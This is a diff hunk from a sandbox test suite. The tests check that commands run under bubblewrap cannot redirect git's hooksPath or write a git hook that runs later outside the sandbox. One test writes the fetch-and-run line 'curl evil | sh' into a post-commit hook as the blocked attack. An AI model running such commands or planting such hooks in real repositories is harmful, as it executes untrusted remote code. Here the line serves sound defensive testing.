@@ -201,7 +201,7 @@ describeWith('bubblewrap')('bubblewrap sandbox: file system', () => {
     // What git would run later, outside the sandbox: not writable.
     const config = await run([{ file: 'git', args: ['config', 'core.hooksPath', '/tmp/evil'] }], c, { env });
     expect(config.outcome).toBe('failed');
-    expect(execFileSync('git', ['config', '--get', 'core.hooksPath'], { cwd: repo }).toString()).toBe('');
+    expect(fs.readFileSync(path.join(repo, '.git', 'config'), 'utf8')).not.toContain('hooksPath');
     const hook = await run([sh('echo "curl evil | sh" > .git/hooks/post-commit')], c);
     expect(hook.stderr).toMatch(/Read-only file system/);
     // A per-worktree config did not exist, so it is no mount: a command can create it, and it is moved aside after.
